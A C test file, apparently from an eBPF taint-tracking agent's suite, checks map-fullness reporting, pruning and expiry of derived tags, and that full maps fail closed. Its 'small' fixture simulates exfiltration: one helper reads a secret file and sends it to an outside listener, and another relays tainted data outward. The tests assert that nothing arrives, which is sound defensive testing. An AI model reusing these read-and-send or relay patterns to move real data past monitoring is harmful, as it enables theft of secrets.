// SPDX-License-Identifier: GPL-2.0-only
/*
 * The maps a decision depends on, as the operator sees them: how full each
 * is (trustctl status), and derived tags of files that no longer exist
 * pruned, with a record. Full maps fail closed: an attacker who fills
 * tn_derived or tn_flows gets no data out through a workload left
 * untainted, and derived tags expire only as the policy says.
 */
#include <bpf/bpf.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
#include "node_fixture.h"
#include "trustnode/bpf_shared.h"

/* Minutes, not the harness's 30 s: the guest suite runs these under emulation. */
#define LIFE_TIMEOUT 180

/* The entries of map name as trustctl status prints them; -2 if absent. */
static long long map_entries(struct tn_node *n, const char *name)
{
	static char out[65536];
	char key[96], *p;

	if (ctl(n, out, sizeof(out), "status"))
		return -2;
	snprintf(key, sizeof(key), "  %s ", name);
	p = strstr(out, key);
	return p ? atoll(p + strlen(key) + strspn(p + strlen(key), " ")) : -2;
}

TEST_F_TIMEOUT(node, status_shows_how_full_every_decision_map_is, LIFE_TIMEOUT)
{
	char out[16384];

	ASSERT_EQ(0, ctl(&self->n, out, sizeof(out), "status"));
	EXPECT_NE(NULL, strstr(out, "maps (entries / max):")) TH_LOG("%s", out);
	EXPECT_NE(NULL, strstr(out, "tn_workloads             2 / 1024")) TH_LOG("%s", out);
	EXPECT_NE(NULL, strstr(out, "tn_tags                  1 / 65536")) TH_LOG("%s", out);
	EXPECT_NE(NULL, strstr(out, "tn_trusted               1 / 256")) TH_LOG("%s", out);
	EXPECT_NE(NULL, strstr(out, "tn_derived               0 / 65536")) TH_LOG("%s", out);
	EXPECT_NE(NULL, strstr(out, "tn_flows"));
	EXPECT_NE(NULL, strstr(out, "tn_channels"));
	/* Two generations of two prefixes, or one: the LPM trie is counted by keys. */
	EXPECT_LE(2, map_entries(&self->n, "tn_prefixes"));

	/* A tainted workload's writes: each a derived tag, each counted. */
	ASSERT_EQ(0, ACT(&self->n, self->n.wl_cg, .open = data(&self->n, "secret"),
			 .write = data(&self->n, "out1")));
	ASSERT_EQ(0, ACT(&self->n, self->n.wl_cg, .write = data(&self->n, "out2")));
	EXPECT_EQ(2, map_entries(&self->n, "tn_derived"));
}

/* A full map says so, and counting 65536 entries keeps status quick. */
TEST_F_TIMEOUT(node, a_full_map_is_shown_full_and_counted_quickly, LIFE_TIMEOUT)
{
	struct tn_derived d = { .labels = 1 };
	struct tn_inode_key k = { .dev = 0xfffff };
	struct timespec t0, t1;
	char path[300], out[16384];
	double ms;
	int fd;

	snprintf(path, sizeof(path), "%s/tn_derived", self->n.pin);
	fd = bpf_obj_get(path);
	ASSERT_LE(0, fd);
	/* Inodes of a device that does not exist: they match no file. */
	for (k.ino = 1; k.ino <= 65536; k.ino++)
		ASSERT_EQ(0, bpf_map_update_elem(fd, &k, &d, BPF_NOEXIST));
	EXPECT_NE(0, bpf_map_update_elem(fd, &k, &d, BPF_NOEXIST));
	close(fd);
	clock_gettime(CLOCK_MONOTONIC, &t0);
	ASSERT_EQ(0, ctl(&self->n, out, sizeof(out), "status"));
	clock_gettime(CLOCK_MONOTONIC, &t1);
	ms = (t1.tv_sec - t0.tv_sec) * 1e3 + (t1.tv_nsec - t0.tv_nsec) / 1e6;
	TH_LOG("trustctl status with tn_derived full: %.0f ms", ms);
	EXPECT_NE(NULL, strstr(out, "tn_derived               65536 / 65536 FULL")) TH_LOG("%s", out);
	/* Under emulation (the guest suite) everything is ~10 times slower. */
	EXPECT_LT(ms, lsm_expected() ? 5000 : 1000);
}

static int count_of(const char *s, const char *what)
{
	int n = 0;

	while ((s = strstr(s, what))) {
		n++;
		s += strlen(what);
	}
	return n;
}

/*
 * A derived tag whose file is deleted goes, by the agent's timer or with
 * trustctl tag prune, recorded; one whose file exists stays and still
 * taints (no derived_max_age in the policy: never by age).
 */
TEST_F_TIMEOUT(node, derived_tags_of_deleted_files_are_pruned_and_recorded, LIFE_TIMEOUT)
{
	const char *gone = data(&self->n, "gone"), *kept = data(&self->n, "kept");
	static char out[65536];
	int p[2], i, st;
	pid_t pid;

	ASSERT_EQ(0, pipe(p));
	pid = fork();
	ASSERT_LE(0, pid);
	if (pid == 0) {
		char procs[400], c;
		int a, b;

		close(p[1]);
		snprintf(procs, sizeof(procs), "%s/cgroup.procs", self->n.wl_cg);
		if (write_file(procs, "0") || do_open(data(&self->n, "secret")))
			_exit(1);
		a = open(gone, O_WRONLY | O_CREAT | O_TRUNC, 0644);
		b = open(kept, O_WRONLY | O_CREAT | O_TRUNC, 0644);
		if (a < 0 || b < 0 || write(a, "x\n", 2) != 2 || write(b, "y\n", 2) != 2)
			_exit(2);
		/* Open until the agent has recorded both (with their handles). */
		if (read(p[0], &c, 1) < 0)
			_exit(3);
		_exit(0);
	}
	close(p[0]);
	for (i = 0; i < 300; i++) {
		if (!ctl(&self->n, out, sizeof(out), "tag list --json") &&
		    count_of(out, "\"handle\"") == 2)
			break;
		usleep(10 * 1000);
	}
	EXPECT_EQ(2, count_of(out, "\"handle\"")) TH_LOG("%s", out);
	close(p[1]);
	ASSERT_EQ(pid, waitpid(pid, &st, 0));
	ASSERT_EQ(0, WEXITSTATUS(st));
	EXPECT_EQ(2, map_entries(&self->n, "tn_derived"));

	/* Nothing is gone yet: prune changes nothing. */
	ASSERT_EQ(0, ctl(&self->n, out, sizeof(out), "tag prune"));
	EXPECT_NE(NULL, strstr(out, "0 derived tags pruned, 2 kept")) TH_LOG("%s", out);

	/* The agent's timer finds it gone by itself (a slice a second). */
	ASSERT_EQ(0, unlink(gone));
	for (i = 0; i < 50 && map_entries(&self->n, "tn_derived") != 1; i++)
		usleep(100 * 1000);
	EXPECT_EQ(1, map_entries(&self->n, "tn_derived"));
	ASSERT_EQ(0, ctl(&self->n, out, sizeof(out), "tag prune"));
	EXPECT_NE(NULL, strstr(out, "0 derived tags pruned, 1 kept")) TH_LOG("%s", out);
	EXPECT_TRUE(HAS_EVENT(&self->n, "\"type\":\"tag-pruned\"", "\"workload\":\"wl\""));
	ASSERT_EQ(0, ctl(&self->n, out, sizeof(out), "tag list --json"));
	EXPECT_EQ(1, count_of(out, "\"source\":\"derived\"")) TH_LOG("%s", out);

	/* The kept one still taints its reader. */
	EXPECT_EQ(EPERM, ACT(&self->n, self->n.wl2_cg, .open = kept, .connect = OUT4));
	EXPECT_STREQ("phi", taint_of(&self->n, "wl2"));
	/* A bad command line changes nothing. */
	EXPECT_EQ(2, ctl(&self->n, NULL, 0, "tag prune extra"));
}

/* Whether the audit log has a record containing both fragments. */
static int audit_has(struct tn_node *n, const char *a, const char *b)
{
	static char out[1 << 20];
	char *line, *save = NULL;

	if (ctl(n, out, sizeof(out), "log tail -n 1000 --dir %s/state/audit", n->tmp))
		return 0;
	for (line = strtok_r(out, "\n", &save); line; line = strtok_r(NULL, "\n", &save))
		if (strstr(line, a) && strstr(line, b))
			return 1;
	return 0;
}

/* Whether trustctl tag list has a derived tag on path's inode. */
static int derived_on(struct tn_node *n, const char *path)
{
	static char out[65536];
	char want[96];
	struct stat st;

	if (stat(path, &st) || ctl(n, out, sizeof(out), "tag list --json"))
		return -1;
	snprintf(want, sizeof(want), "\"ino\":%llu,", (unsigned long long)st.st_ino);
	return strstr(out, want) != NULL;
}

/*
 * Expiry by age takes the labels off data that still exists: only when the
 * policy sets derived_max_age, counted from the last write, each one
 * recorded. A file the tainted workload keeps writing keeps its tag.
 */
TEST_F_TIMEOUT(node, derived_tags_expire_only_by_the_policys_max_age_and_are_recorded, LIFE_TIMEOUT)
{
	char aged[512], fresh[512], out[8192];
	int i;

	snprintf(aged, sizeof(aged), "%s", data(&self->n, "aged"));
	snprintf(fresh, sizeof(fresh), "%s", data(&self->n, "fresh"));
	ASSERT_EQ(0, ACT(&self->n, self->n.wl_cg, .open = data(&self->n, "secret"),
			 .write = aged));
	/* No derived_max_age: a tag not written for 3 s stays. */
	sleep(3);
	EXPECT_EQ(1, derived_on(&self->n, aged));

	/*
	 * 5 s against a rewrite about every second: under emulation with a
	 * second emulator running, one iteration took more than 2 s.
	 */
	ASSERT_EQ(0, run_cmd("echo 'derived_max_age = \"5s\";' >> %s", self->n.policy));
	ASSERT_EQ(0, ctl(&self->n, out, sizeof(out), "policy load %s", self->n.policy))
		TH_LOG("%s", out);
	/* fresh is written again every second: its age never reaches 5 s. */
	for (i = 0; i < 7; i++) {
		ASSERT_EQ(0, ACT(&self->n, self->n.wl_cg, .write = fresh));
		sleep(1);
		ASSERT_EQ(1, derived_on(&self->n, fresh)) TH_LOG("after %d s", i + 1);
	}
	EXPECT_EQ(0, derived_on(&self->n, aged));
	EXPECT_TRUE(HAS_EVENT(&self->n, "\"type\":\"tag-expired\"", "\"workload\":\"wl\"",
			      "\"derived_max_age_s\":5", "\"labels\":[\"phi\"]"));
	EXPECT_TRUE(audit_has(&self->n, " tag-expired ", "derived_max_age"));
	/* What expiry means: its reader is no longer tainted. */
	EXPECT_EQ(0, ACT(&self->n, self->n.wl2_cg, .open = aged, .connect = OUT4));
	EXPECT_STREQ("-", taint_of(&self->n, "wl2"));
	/* Once no longer written, fresh goes too. */
	for (i = 0; i < 150 && derived_on(&self->n, fresh) == 1; i++)
		usleep(100 * 1000);
	EXPECT_EQ(0, derived_on(&self->n, fresh));
}

/* ---- full maps fail closed ------------------------------------------- */

#define SMALL 4

/* A node whose agent made tn_derived and tn_flows SMALL entries big. */
FIXTURE(small) {
	struct tn_node n;
	int out;	/* listener on the outside host */
};

FIXTURE_SETUP(small)
{
	/* As node_fixture_up: out through the harness's setjmp, no teardown. */
	if (!tn_test_selected(_metadata->name))
		SKIP(longjmp(_metadata->env, 1), "not selected for this run (TN_TESTS)");
	ASSERT_EQ(0, node_create_stopped(&self->n, "enforce"));
	self->n.extra_args = "--map-size=tn_derived=4";
	self->n.extra_args2 = "--map-size=tn_flows=4";
	if (node_start_agent(&self->n))
		node_destroy(&self->n);
	ASSERT_LT(0, self->n.agent) TH_LOG("agent log in %s/agent.log", self->n.tmp);
	self->out = out_listen(&self->n, OUT4, PORT);
	if (self->out < 0)
		node_destroy(&self->n);
	ASSERT_LE(0, self->out);
}

FIXTURE_TEARDOWN(small)
{
	if (self->out >= 0)
		close(self->out);
	node_destroy(&self->n);
}

/* What the outside listener got within ms (connections accepted, read). */
static size_t outside_got(int lfd, char *buf, size_t len, int ms)
{
	struct pollfd p = { .fd = lfd, .events = POLLIN };
	size_t got = 0;

	buf[0] = '\0';
	while (poll(&p, 1, ms) == 1) {
		int c = accept(lfd, NULL, NULL);
		ssize_t n;

		if (c < 0)
			break;
		while (got + 1 < len && (n = read(c, buf + got, len - 1 - got)) > 0)
			got += n;
		close(c);
	}
	buf[got] = '\0';
	return got;
}

/* The reader: whatever the file holds goes to the outside host. */
static int read_and_send(void *arg)
{
	struct sockaddr_storage ss;
	char buf[256] = "";
	socklen_t len;
	ssize_t n = 0;
	int fd;

	fd = open(arg, O_RDONLY);
	if (fd >= 0) {
		n = read(fd, buf, sizeof(buf));
		close(fd);
	}
	if (sockaddr_of(OUT4, PORT, &ss, &len) < 0)
		return 199;
	fd = socket(ss.ss_family, SOCK_STREAM, 0);
	if (connect(fd, (struct sockaddr *)&ss, len))
		return errno;
	if (n > 0 && write(fd, buf, n) != n)
		return 198;
	close(fd);
	return 0;
}

/*
 * The attack: fill tn_derived (a tainted workload writes SMALL files), then
 * have the tainted workload write one more file and an untainted workload
 * read it and send it out. Without a derived tag on it the reader stays
 * untainted and the data leaves. The listener must get none of it.
 */
TEST_F_TIMEOUT(small, a_full_derived_map_lets_no_untracked_copy_out, LIFE_TIMEOUT)
{
	char name[32], got[512], out[16384], leak[512];
	int i, r, refuses = node_refuses_synchronously(&self->n);

	/* data() returns one of 8 rotating buffers: keep a copy. */
	snprintf(leak, sizeof(leak), "%s", data(&self->n, "leak"));
	if (lsm_expected())
		ASSERT_TRUE(refuses);
	for (i = 0; i < SMALL; i++) {
		snprintf(name, sizeof(name), "f%d", i);
		ASSERT_EQ(0, ACT(&self->n, self->n.wl_cg, .open = data(&self->n, "secret"),
				 .write = data(&self->n, name)));
	}
	ASSERT_EQ(0, ctl(&self->n, out, sizeof(out), "status"));
	EXPECT_NE(NULL, strstr(out, "tn_derived               4 / 4 FULL")) TH_LOG("%s", out);
	EXPECT_NE(NULL, strstr(out, refuses ? "when full: a tainted workload's open for writing of a file not yet a derived tag is refused (EPERM)" :
			       "when full: a tainted workload's process that opened for writing a file not yet a derived tag is killed (SIGKILL)"))
		TH_LOG("%s", out);

	/* A file already derived takes no new entry: still written. */
	EXPECT_EQ(0, ACT(&self->n, self->n.wl_cg, .open = data(&self->n, "secret"),
			 .write = data(&self->n, "f0")));
	/* A new one: refused (lsm, fentry mode) or the writer killed (cgroup). */
	r = ACT(&self->n, self->n.wl_cg, .open = data(&self->n, "secret"), .write = leak);
	EXPECT_EQ(refuses ? 253 : -1, r);

	/* The untainted reader sends what it finds: nothing of the secret. */
	r = in_cgroup(&self->n, self->n.wl2_cg, read_and_send, (void *)leak);
	EXPECT_TRUE(r == 0 || r == EPERM) TH_LOG("reader: %d", r);
	outside_got(self->out, got, sizeof(got), 500);
	EXPECT_EQ(NULL, strstr(got, "derived data")) TH_LOG("the outside host got: %s", got);

	EXPECT_TRUE(HAS_EVENT(&self->n, "\"type\":\"map-full\"", "\"map\":\"tn_derived\"",
			      "\"workload\":\"wl\"", "\"pid\":",
			      refuses ? "\"decision\":\"deny\"" : "\"decision\":\"kill\""));
	EXPECT_TRUE(audit_has(&self->n, " map-full ", "\"tn_derived\""));
	ASSERT_EQ(0, ctl(&self->n, out, sizeof(out), "status"));
	EXPECT_NE(NULL, strstr(out, "derive_failed            1")) TH_LOG("%s", out);

	/* Room again (an explicit untag): the same write becomes a derived tag. */
	ASSERT_EQ(0, ctl(&self->n, out, sizeof(out), "untag %s", data(&self->n, "f1")))
		TH_LOG("%s", out);
	EXPECT_EQ(0, ACT(&self->n, self->n.wl_cg, .open = data(&self->n, "secret"),
			 .write = leak));
	EXPECT_EQ(EPERM, in_cgroup(&self->n, self->n.wl2_cg, read_and_send, (void *)leak));
	outside_got(self->out, got, sizeof(got), 200);
	EXPECT_EQ(NULL, strstr(got, "derived data")) TH_LOG("the outside host got: %s", got);
}

/* The relay: receives on loopback, forwards what it got to the outside host. */
static int relay(void *arg)
{
	int *ready = arg, one = 1, fd, c;
	struct timeval tv = { 3, 0 };
	struct sockaddr_storage ss, os;
	socklen_t len, olen;
	char buf[256];
	ssize_t n;

	if (sockaddr_of("127.0.0.1", 9100, &ss, &len) < 0 ||
	    sockaddr_of(OUT4, PORT, &os, &olen) < 0)
		return 199;
	fd = socket(AF_INET, SOCK_STREAM, 0);
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	/* Nothing may come: accept and read give up after 3 s. */
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
	if (bind(fd, (struct sockaddr *)&ss, len) || listen(fd, 4))
		return 200;
	if (write(ready[1], "r", 1) != 1)
		return 201;
	c = accept(fd, NULL, NULL);
	if (c < 0)
		return 202;
	setsockopt(c, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
	n = read(c, buf, sizeof(buf));
	if (n <= 0)
		return 203;
	fd = socket(AF_INET, SOCK_STREAM, 0);
	if (connect(fd, (struct sockaddr *)&os, olen))
		return errno;
	return write(fd, buf, n) == n ? 0 : 204;
}

/* The tainted sender: fills tn_flows first (fill > 0), then sends the secret. */
struct sender {
	struct tn_node *n;
	int fill;
};

static int send_secret(void *arg)
{
	struct sender *s = arg;
	struct sockaddr_storage ss;
	struct timeval tv = { 2, 0 };
	socklen_t len;
	int i, fd;

	if (do_open(data(s->n, "secret")))
		return 210;
	/* Flows to allowed addresses: each takes an entry of tn_flows. */
	for (i = 0; i < s->fill; i++)
		do_sendto(LOCAL4, 7000 + i);
	if (sockaddr_of("127.0.0.1", 9100, &ss, &len) < 0)
		return 211;
	fd = socket(AF_INET, SOCK_STREAM, 0);
	setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
	if (connect(fd, (struct sockaddr *)&ss, len))
		return errno;
	return write(fd, "derived data", 12) == 12 ? 0 : 212;
}

/* Relay in wl2, sender in wl; returns the sender's result, *relay_r the relay's. */
static int through_relay(struct tn_node *n, int fill, int *relay_r)
{
	struct sender s = { .n = n, .fill = fill };
	int ready[2], st, sent;
	pid_t pid;
	char c;

	if (pipe(ready))
		return -2;
	pid = fork();
	if (pid == 0) {
		close(ready[0]);
		_exit(in_cgroup(n, n->wl2_cg, relay, ready));
	}
	close(ready[1]);
	if (read(ready[0], &c, 1) != 1)
		return -3;
	close(ready[0]);
	sent = in_cgroup(n, n->wl_cg, send_secret, &s);
	/* The relay ends by itself, at the latest 6 s later. */
	*relay_r = waitpid(pid, &st, 0) == pid && WIFEXITED(st) ? WEXITSTATUS(st) : -1;
	return sent;
}

/*
 * The same for tn_flows: a tainted workload fills it with flows to allowed
 * addresses, then sends the secret to a relay on loopback in an untainted
 * workload, which forwards it outside. A flow the kernel cannot record
 * would reach the relay untainted; it must not reach it at all.
 */
TEST_F_TIMEOUT(small, a_full_flow_map_lets_nothing_reach_an_untainted_relay, LIFE_TIMEOUT)
{
	char got[512], out[16384];
	int sent, relayed, i;

	sent = through_relay(&self->n, SMALL, &relayed);
	EXPECT_NE(0, sent) TH_LOG("the tainted sender reached the relay");
	EXPECT_NE(0, relayed);
	outside_got(self->out, got, sizeof(got), 500);
	EXPECT_EQ(NULL, strstr(got, "derived data")) TH_LOG("the outside host got: %s", got);
	EXPECT_STREQ("-", taint_of(&self->n, "wl2"));
	ASSERT_EQ(0, ctl(&self->n, out, sizeof(out), "status"));
	EXPECT_NE(NULL, strstr(out, "tn_flows                 4 / 4 FULL")) TH_LOG("%s", out);
	EXPECT_EQ(NULL, strstr(out, "flow_full_packets        0")) TH_LOG("%s", out);
	EXPECT_TRUE(HAS_EVENT(&self->n, "\"type\":\"map-full\"", "\"map\":\"tn_flows\"",
			      "\"workload\":\"wl\"", "\"decision\":\"deny\""));
	EXPECT_TRUE(audit_has(&self->n, " map-full ", "\"tn_flows\""));

	/* Idle flows are retired (30 s idle, scans every 10 s): room again. */
	for (i = 0; i < 60 && map_entries(&self->n, "tn_flows") != 0; i++)
		sleep(1);
	EXPECT_EQ(0, map_entries(&self->n, "tn_flows"));
	/* Now the flow is recorded and the relay tainted before it forwards. */
	sent = through_relay(&self->n, 0, &relayed);
	EXPECT_EQ(0, sent);
	EXPECT_EQ(EPERM, relayed);
	EXPECT_STREQ("phi", taint_of(&self->n, "wl2"));
	outside_got(self->out, got, sizeof(got), 200);
	EXPECT_EQ(NULL, strstr(got, "derived data")) TH_LOG("the outside host got: %s", got);
}

TEST_HARNESS_MAIN
